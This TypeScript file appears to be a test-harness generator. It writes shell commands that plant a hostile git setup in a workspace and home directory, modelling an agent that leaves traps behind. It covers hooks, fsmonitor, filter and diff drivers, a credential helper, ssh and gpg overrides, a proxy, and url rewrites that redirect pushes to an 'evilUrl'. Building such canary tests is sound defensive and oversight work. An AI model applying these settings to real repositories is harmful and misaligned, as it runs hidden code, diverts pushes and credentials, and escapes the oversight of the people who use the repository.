/** What an agent plants in its repository and home, so that whoever uses git there runs its programs or talks to its places. */
import type { Canary } from './canary.ts';

export interface Targets {
  /** Addresses that are to be taken for `evilUrl`: the repository's, and the one that a save pushes to. */
  readonly honestUrls: readonly string[];
  readonly evilUrl: string;
  /** Another repository's objects. */
  readonly evilObjects: string;
}

const HOOKS = ['pre-push', 'reference-transaction', 'post-index-change', 'pre-commit', 'pre-auto-gc'];

/** Shell text, one command a line, for the workspace's folder. None of its programs has run when it is over. */
export async function buildHostileGit(canary: Canary, targets: Targets): Promise<string> {
  const { honestUrls, evilUrl, evilObjects } = targets;
  const program = async (name: string) => quote(await canary.program(name));
  const proxy = `http://127.0.0.1:${canary.port}`;
  const config = (name: string, value: string) =>
    `git config --file .git/config --add ${quote(name)} ${quote(value)}`;
  const included = ['[core]', `\tfsmonitor = ${await canary.program('included')}`];
  const home = [
    ...included,
    '[http]',
    `\tproxy = ${proxy}`,
    `[url "${evilUrl}"]`,
    ...honestUrls.map((url) => `\tinsteadOf = ${url}`),
  ];
  return [
    `mkdir -p .git/evil-hooks .git/objects/info .git/info`,
    ...(await Promise.all(
      HOOKS.map(async (hook) => `ln -s ${await program(`hook-${hook}`)} .git/evil-hooks/${hook}`),
    )),
    `printf '* filter=evil diff=evil\\n' > .git/info/attributes`,
    writeLines('.git/evil-config', included),
    writeLines('"$HOME/.gitconfig"', home),
    `printf '%s\\n' ${quote(evilObjects)} > .git/objects/info/alternates`,
    ...['clean', 'smudge', 'process'].map((part) =>
      config(`filter.evil.${part}`, canary.command(`filter-${part}`)),
    ),
    config('diff.external', await canary.program('diff-external')),
    config('credential.helper', `!${canary.command('credential-helper')}`),
    config('core.askPass', await canary.program('askpass')),
    config('core.sshCommand', canary.command('ssh')),
    config('gpg.program', await canary.program('gpg')),
    config('commit.gpgSign', 'true'),
    config('push.gpgSign', 'true'),
    config('http.proxy', proxy),
    ...honestUrls.flatMap((url) => [
      config(`url.${evilUrl}.insteadOf`, url),
      config(`url.${evilUrl}.pushInsteadOf`, url),
    ]),
    config('include.path', 'evil-config'),
    `git config --file .git/config core.hooksPath "$PWD/.git/evil-hooks"`,
    config('core.fsmonitor', await canary.program('fsmonitor')),
  ].join('\n');
}

const writeLines = (file: string, lines: readonly string[]): string =>
  `printf '%s\\n' ${lines.map(quote).join(' ')} > ${file}`;

const quote = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;
